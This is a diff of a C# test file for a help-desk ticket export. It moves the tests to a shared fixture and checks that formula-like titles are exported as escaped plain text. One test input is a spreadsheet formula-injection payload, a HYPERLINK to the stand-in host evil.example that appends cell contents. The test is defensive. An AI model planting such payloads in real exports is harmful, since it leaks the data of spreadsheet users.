@@ -13,7 +13,7 @@ using SupportDesk.Tests.Support;
 
 namespace SupportDesk.Tests.Features.Tickets.Export;
 
-public sealed class ExportTicketsTests
+public sealed class ExportTicketsTests(ServedDesk served) : IClassFixture<ServedDesk>
 {
     [Theory]
     [InlineData("=1+1")]
@@ -23,9 +23,9 @@ public sealed class ExportTicketsTests
     [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1; \"x\")")]
     public async Task T36_Title_SpreadsheetWouldTakeForAFormula_IsText(string title)
     {
-        await using var desk = await TestDesk.ServeAsync();
+        var desk = served.Desk;
         await desk.OpenAsync(Cases.Payer with { Title = title, RequesterName = title }, Actor.System);
-        var row = Assert.Single((await ReadAsync(desk, desk.Agent)).Rows);
+        var row = (await ReadAsync(desk, desk.Agent)).Rows.MaxBy(each => each["Номер"])!;
         Assert.Equal("'" + title, row["Тема"]);
         Assert.Equal("'" + title, row["Заявитель"]);
     }
@@ -37,9 +37,9 @@ public sealed class ExportTicketsTests
     [InlineData("a-b + c = d", "a-b + c = d")]
     public async Task T36_Title_FormulaBehindACut_IsText(string title, string cell)
     {
-        await using var desk = await TestDesk.ServeAsync();
+        var desk = served.Desk;
         await desk.OpenAsync(Cases.Payer with { Title = title }, Actor.System);
-        Assert.Equal(cell, Assert.Single((await ReadAsync(desk, desk.Agent)).Rows)["Тема"]);
+        Assert.Equal(cell, (await ReadAsync(desk, desk.Agent)).Rows.MaxBy(each => each["Номер"])!["Тема"]);
     }
 
     // What leaves the desk as a document is plain text: nothing in it is looked up, neither here nor in a file.
